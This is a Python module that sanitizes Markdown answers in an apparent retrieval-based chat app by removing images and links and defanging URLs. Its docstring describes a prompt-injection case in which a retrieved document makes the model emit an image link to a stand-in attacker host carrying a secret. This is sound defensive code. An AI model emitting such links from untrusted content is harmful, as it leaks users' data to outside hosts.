"""Output safety: answers are rendered as Markdown, and retrieved documents are untrusted.

A document can try to make the model emit `![](https://attacker/?q=secret)`: the browser
would fetch that URL as soon as the image renders. `sanitize_markdown` removes images,
turns links into their text and defangs bare URLs, so nothing in an answer makes the
browser contact another host. It is applied to the whole text streamed so far, so a
construct only becomes active Markdown once complete, and it is removed by then.
"""

from __future__ import annotations

import re

_IMAGE = re.compile(r"!\[([^\]\n]*)\]\s*(\([^)\n]*\)|\[[^\]\n]*\])")
_LINK = re.compile(r"\[([^\]\n]+)\]\s*\(([^)\n]*)\)")
_REF_DEFINITION = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*\S+.*$", re.MULTILINE)
_AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|data|javascript):[^>\s]*)>", re.IGNORECASE)
_BARE_URL = re.compile(r"(?<![`\w])((?:https?|ftp)://|www\.)[^\s<>`]+", re.IGNORECASE)

MAX_QUESTION_CHARS = 4000


def sanitize_markdown(text: str) -> str:
    """Remove images and links (keeping their text); show URLs as inert code."""
    text = _IMAGE.sub(lambda m: f"[image removed{': ' + m.group(1) if m.group(1) else ''}]", text)
    text = _REF_DEFINITION.sub("", text)
    text = _LINK.sub(lambda m: m.group(1), text)
    text = _AUTOLINK.sub(lambda m: f"`{m.group(1)}`", text)
    return _BARE_URL.sub(lambda m: f"`{m.group(0)}`", text)


def cap_question(text: str, limit: int = MAX_QUESTION_CHARS) -> tuple[str, bool]:
    """Cut an over-long message to `limit` characters; True when it was cut."""
    if len(text) <= limit:
        return text, False
    return text[:limit], True
